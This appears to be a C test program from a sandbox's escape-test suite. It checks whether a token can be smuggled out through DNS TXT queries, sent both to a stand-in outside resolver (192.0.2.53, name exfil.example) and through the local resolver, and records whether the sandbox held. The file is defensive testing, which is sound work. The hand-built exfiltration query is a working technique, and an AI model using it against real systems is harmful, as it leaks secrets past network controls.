/* esc_dns_exfil — smuggle the token out in DNS questions: a TXT query for
 * <token>.exfil.example sent to 192.0.2.53:53 (an outside resolver, at a
 * documentation address) with sendto, and — under moat — the same name
 * asked of the sandbox's own resolver (res_query through /etc/resolv.conf).
 *
 * Attacks the network stub's DNS handling (docs/network.md): a
 * resolver forwards any name to the zone's servers, so a name is a message
 * to whoever owns the zone, the classic way out of a network that allows
 * only DNS.  Natively the sendto leaves wherever the host has a route
 * (ESCAPED; with no route the host cannot show it: UNSUPPORTED), and the
 * resolver path reaches the host's resolver, which run.sh makes a fixture
 * on 127.0.0.2 (never run this natively outside run.sh).  Under moat the
 * stub resolver must answer REFUSED itself; any other answer means the
 * question went on.  A stub that forwarded and still said REFUSED is
 * invisible from here: run.sh checks that the fixture saw nothing.  Under moat
 * the sendto is refused ENETUNREACH, recorded with the question's name
 * (net.deny-by-default), and the stub's refusal is recorded as `dns`
 * net.dns.
 *
 * usage: ESC_TOKEN=... esc_dns_exfil --native | --resolver
 */
#include "esc.h"
#include <arpa/inet.h>
#include <arpa/nameser.h>
#include <netdb.h>
#include <netinet/in.h>
#include <resolv.h>
#include <sys/socket.h>

/* A query for NAME of type TXT, id 0x6d6f.  Returns its length. */
static size_t make_query(unsigned char *q, const char *name)
{
	static const unsigned char head[12] = {0x6d, 0x6f, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
	memcpy(q, head, 12);
	size_t o = 12;
	const char *p = name;
	while (*p) {
		const char *dot = strchr(p, '.');
		size_t l = dot ? (size_t)(dot - p) : strlen(p);
		q[o++] = (unsigned char)l;
		memcpy(q + o, p, l);
		o += l;
		p += l + (dot ? 1 : 0);
	}
	q[o++] = 0;
	q[o++] = 0, q[o++] = 16; /* TXT */
	q[o++] = 0, q[o++] = 1;  /* IN */
	return o;
}

int main(int argc, char **argv)
{
	if (argc != 2 || (strcmp(argv[1], "--native") && strcmp(argv[1], "--resolver")))
		esc_usage("esc_dns_exfil --native | --resolver");
	const char *tok = esc_token();
	char name[200];
	snprintf(name, sizeof name, "%s.exfil.example", tok);
	unsigned char q[512];
	size_t len = make_query(q, name);

	struct sockaddr_in ns = {.sin_family = AF_INET, .sin_port = htons(53)};
	inet_pton(AF_INET, "192.0.2.53", &ns.sin_addr);
	int s = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	ssize_t r = s < 0 ? -1 : sendto(s, q, len, 0, (struct sockaddr *)&ns, sizeof ns);
	int noroute = r < 0 && errno == ENETUNREACH && !strcmp(argv[1], "--native");
	if (r >= 0)
		esc_won("a query for %s went to 192.0.2.53:53", name);
	else
		esc_held("sendto 192.0.2.53:53: %s", esc_errname(errno));

	{
		unsigned char ans[512];
		res_init();
		int n = res_query(name, ns_c_in, ns_t_txt, ans, sizeof ans);
		int rcode = n >= 4 ? (ans[3] & 0x0f) : -1;
		/* glibc returns -1 for every failure; h_errno tells REFUSED
		 * (TRY_AGAIN, from a server that answered) from no answer. */
		if (n >= 0)
			esc_won("the resolver answered %s (rcode %d): the question went on", name, rcode);
		else if (h_errno == TRY_AGAIN || h_errno == NO_RECOVERY)
			esc_held("res_query %s: refused (h_errno %d)", name, h_errno);
		else if (h_errno == HOST_NOT_FOUND || h_errno == NO_DATA)
			esc_won("res_query %s: the name was looked up upstream (h_errno %d)", name, h_errno);
		else
			esc_held("res_query %s: h_errno %d", name, h_errno);
	}
	if (noroute && !esc_log()->won[0])
		esc_unsupported("this host has no route to 192.0.2.53, and its resolver did not answer");
	return esc_finish();
}
